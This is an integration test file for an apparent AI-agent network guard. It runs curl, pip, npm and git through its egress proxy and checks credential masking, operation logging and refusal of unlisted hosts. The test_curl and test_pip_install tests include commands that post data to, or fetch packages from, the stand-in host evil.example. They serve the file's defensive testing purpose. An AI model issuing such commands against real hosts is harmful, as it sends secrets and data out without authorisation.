"""Real programs through the proxy, with the variables that the guard gives an agent."""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest
from aiohttp import web

from ciguard.guard.egress.session_ca import SessionCA
from ciguard.guard.egress.trust import trust_bundle
from ciguard.operation import OperationKind
from ciguard.sandbox.environment import proxy_variables, trust_variables
from ciguard.session.event import EventType
from tests.integration.guarded import until
from tests.integration.proxied import CREDENTIAL, TOKEN, Handler, Proxied, private, proxied, serving

HOST = "forge.example.com"


@pytest.fixture
def upstream_ca(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> SessionCA:
    """A certificate authority that guard and agent have among their machine's."""
    ca = SessionCA()
    (tmp_path / "roots.pem").write_text(ca.certificate)
    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "roots.pem"))
    return ca


async def run(proxy: Proxied, folder: Path, *argv: str, more: Mapping[str, str] | None = None) -> tuple[int, str]:
    """A program as an agent runs it: its status, and what it said."""
    home = folder / "home"
    home.mkdir(exist_ok=True)
    bundle = folder / "certificates.pem"
    bundle.write_text(trust_bundle(os.environ, proxy.ca.certificate))
    environ = {"PATH": os.environ["PATH"], "HOME": str(home), "GIT_TERMINAL_PROMPT": "0", "LC_ALL": "C"}
    environ |= {**proxy_variables(proxy.proxy.port, TOKEN), **trust_variables(bundle), **(more or {})}
    process = await asyncio.create_subprocess_exec(
        *argv, cwd=folder, env=environ, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    )
    async with asyncio.timeout(100):
        output, _ = await process.communicate()
    return process.returncode or 0, output.decode()


@pytest.mark.parametrize("scheme", ["http", "tunnel", "inspected"])
async def test_curl(tmp_path: Path, upstream_ca: SessionCA, scheme: str) -> None:
    context = None if scheme == "http" else upstream_ca.context(HOST)
    more = ", inspect: true" if scheme == "inspected" else ""
    async with (
        serving(context=context) as server,
        proxied(tmp_path, private(HOST, server.port, more)) as proxy,
    ):
        url = f"{'http' if scheme == 'http' else 'https'}://{HOST}:{server.port}/x"
        status, output = await run(proxy, tmp_path, "curl", "-sS", url, "-d", f"token={CREDENTIAL}")
        assert (status, output) == (0, "POST /x")
        seen = b"[ciguard-masked:" in server.requests[0].body
        assert seen is (scheme != "tunnel")
        assert len(proxy.operations(OperationKind.HTTP_REQUEST)) == (scheme != "tunnel")
        status, output = await run(proxy, tmp_path, "curl", "-sS", "https://evil.example/", "-d", "x")
        assert status == 56
        assert "403" in output
        status, output = await run(proxy, tmp_path, "curl", "-sS", "http://evil.example/")
        assert "ciguard: this connection was refused." in output
        assert "egress.allow does not name evil.example:80" in output
        assert proxy.events(EventType.REFUSED) == []


def served_files(files: Mapping[str, tuple[str, bytes]]) -> Handler:
    """Answers with files by their path."""

    async def answer(request: web.BaseRequest) -> web.Response:
        found = files.get(request.path)
        if found is None:
            return web.Response(status=404)
        return web.Response(body=found[1], headers={"Content-Type": found[0]})

    return answer


def wheel() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("acme_tool.py", "NAME = 'acme'\n")
        archive.writestr("acme_tool-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: acme-tool\nVersion: 1.0\n")
        archive.writestr(
            "acme_tool-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        archive.writestr("acme_tool-1.0.dist-info/RECORD", "")
    return packed.getvalue()


@pytest.mark.parametrize("inspect", [False, True])
async def test_pip_install(tmp_path: Path, upstream_ca: SessionCA, inspect: bool) -> None:
    name = "acme_tool-1.0-py3-none-any.whl"
    data = wheel()
    link = f'<a href="/files/{name}#sha256={hashlib.sha256(data).hexdigest()}">{name}</a>'
    files = {
        "/simple/acme-tool/": ("text/html", f"<!DOCTYPE html><html><body>{link}</body></html>".encode()),
        f"/files/{name}": ("application/octet-stream", data),
    }
    async with (
        serving(served_files(files), upstream_ca.context(HOST)) as server,
        proxied(tmp_path, private(HOST, server.port, f", inspect: {str(inspect).lower()}")) as proxy,
    ):
        pip = [
            sys.executable,
            "-m",
            "pip",
            "install",
            "--target",
            "site",
            "--no-cache-dir",
            "--disable-pip-version-check",
        ]
        index = f"https://{HOST}:{server.port}/simple/"
        status, output = await run(proxy, tmp_path, *pip, "--index-url", index, "acme-tool")
        assert status == 0, output
        assert (tmp_path / "site" / "acme_tool.py").read_text() == "NAME = 'acme'\n"
        urls = [body["url"] for _, body in proxy.operations(OperationKind.HTTP_REQUEST)]
        assert len(urls) == (2 if inspect else 0)
        refused = await run(proxy, tmp_path, *pip, "--retries", "1", "--index-url", "https://evil.example/simple", "x")
        assert refused[0] == 1
        assert "egress.allow does not name evil.example:443" in refused[1]


def npm_package() -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for path, text in (
            ("package/package.json", '{"name": "@acme/tool", "version": "1.0.0"}'),
            ("package/i.js", "1"),
        ):
            entry = tarfile.TarInfo(path)
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    return packed.getvalue()


@pytest.mark.parametrize("inspect", [False, True])
async def test_npm_install(tmp_path: Path, upstream_ca: SessionCA, inspect: bool) -> None:
    assert shutil.which("npm")
    data = npm_package()

    async def answer(request: web.BaseRequest) -> web.Response:
        if request.path.endswith(".tgz"):
            return web.Response(body=data, content_type="application/octet-stream")
        version = {
            "name": "@acme/tool",
            "version": "1.0.0",
            "dist": {"tarball": f"https://{request.host}/t.tgz", "shasum": hashlib.sha1(data).hexdigest()},  # noqa: S324
        }
        packument = {"name": "@acme/tool", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
        return web.json_response(packument) if "tool" in request.path else web.json_response({}, status=404)

    async with (
        serving(answer, upstream_ca.context(HOST)) as server,
        proxied(tmp_path, private(HOST, server.port, f", inspect: {str(inspect).lower()}")) as proxy,
    ):
        (tmp_path / "package.json").write_text(json.dumps({"name": "x", "private": True}))
        npm = [
            "npm",
            "install",
            "--no-audit",
            "--no-fund",
            "--registry",
            f"https://{HOST}:{server.port}/",
            "@acme/tool",
        ]
        status, output = await run(proxy, tmp_path, *npm)
        assert status == 0, output
        assert (tmp_path / "node_modules" / "@acme" / "tool" / "i.js").read_text() == "1"
        asked = {
            body["url"].partition(f":{server.port}")[2] for _, body in proxy.operations(OperationKind.HTTP_REQUEST)
        }
        assert asked >= {"/@acme%2ftool", "/t.tgz"} if inspect else asked == set()


def git_backend(root: Path) -> Handler:
    """Git's own server program, as a web server runs it (git-http-backend(1))."""

    async def answer(request: web.BaseRequest) -> web.Response:
        body = await request.read()
        environ = {
            "PATH": os.environ["PATH"],
            "GIT_PROJECT_ROOT": str(root),
            "GIT_HTTP_EXPORT_ALL": "1",
            "PATH_INFO": request.path,
            "QUERY_STRING": request.query_string,
            "REQUEST_METHOD": request.method,
            "CONTENT_TYPE": request.headers.get("Content-Type", ""),
            "CONTENT_LENGTH": str(len(body)),
            "HTTP_CONTENT_ENCODING": request.headers.get("Content-Encoding", ""),
            "REMOTE_USER": "agent",
        }
        process = await asyncio.create_subprocess_exec(
            "git", "http-backend", env=environ, stdin=subprocess.PIPE, stdout=subprocess.PIPE
        )
        output, _ = await process.communicate(body)
        head, _, content = output.partition(b"\r\n\r\n")
        headers = dict(line.split(": ", 1) for line in head.decode().split("\r\n"))
        status = int(headers.pop("Status", "200").split()[0])
        return web.Response(status=status, body=content, headers=headers)

    return answer


GIT = ("git", "-c", "user.name=a", "-c", "user.email=a@example.com", "-c", "init.defaultBranch=main")


def serve_repository(root: Path, home: Path) -> None:
    """A bare repository ``shop.git`` below ``root`` that has one commit and takes pushes."""
    work, served = str(home / "work"), str(root / "shop.git")
    for command in (
        [*GIT, "init", "-q", "--bare", served],
        ["git", "-C", served, "config", "http.receivepack", "true"],
        [*GIT, "init", "-q", work],
        [*GIT, "-C", work, "commit", "-q", "--allow-empty", "-m", "first"],
        [*GIT, "-C", work, "push", "-q", served, "HEAD:main"],
    ):
        subprocess.run(command, check=True, env={"PATH": os.environ["PATH"], "HOME": str(home)})


def commits(repository: Path, branch: str) -> int:
    """How many commits ``branch`` has."""
    counted = subprocess.run(
        ["git", "-C", str(repository), "rev-list", "--count", branch], check=True, capture_output=True
    )
    return int(counted.stdout)


@pytest.mark.parametrize("way", ["http", "tunnel", "inspected"])
async def test_git_clone_and_push(tmp_path: Path, upstream_ca: SessionCA, way: str) -> None:
    root = tmp_path / "served"
    serve_repository(root, tmp_path)
    context = None if way == "http" else upstream_ca.context(HOST)
    more = ", inspect: true" if way == "inspected" else ""
    async with (
        serving(git_backend(root), context) as server,
        proxied(tmp_path, private(HOST, server.port, more)) as proxy,
    ):
        url = f"{'http' if way == 'http' else 'https'}://{HOST}:{server.port}/shop.git"
        status, output = await run(proxy, tmp_path, "git", "clone", "-q", url, "clone")
        assert status == 0, output
        (tmp_path / "clone" / "data.bin").write_bytes(os.urandom(300_000))
        for command in (["add", "."], ["commit", "-q", "-m", "more"], ["push", "-q", "origin", "HEAD:topic"]):
            status, output = await run(proxy, tmp_path, *GIT, "-C", "clone", *command)
            assert status == 0, output
        assert commits(root / "shop.git", "topic") == 2
        assert proxy.events(EventType.REFUSED) == []
        recorded = proxy.operations(OperationKind.HTTP_REQUEST)
        assert bool(recorded) is (way != "tunnel")
        if way == "tunnel":
            await until(lambda: sum(event["sent"] for event in proxy.events(EventType.TRANSFER)) > 300_000)
        else:
            assert any(body["url"].endswith("/git-receive-pack") and "sha256" in body for _, body in recorded)


async def test_python_finds_the_proxy_by_itself(tmp_path: Path, upstream_ca: SessionCA) -> None:
    async with (
        serving(context=upstream_ca.context(HOST)) as server,
        proxied(tmp_path, private(HOST, server.port, ", inspect: true")) as proxy,
    ):
        url = f"https://{HOST}:{server.port}/x"
        script = f"import urllib.request as r; print(r.urlopen({url!r}).read().decode())"
        assert await run(proxy, tmp_path, sys.executable, "-c", script) == (0, "GET /x\n")
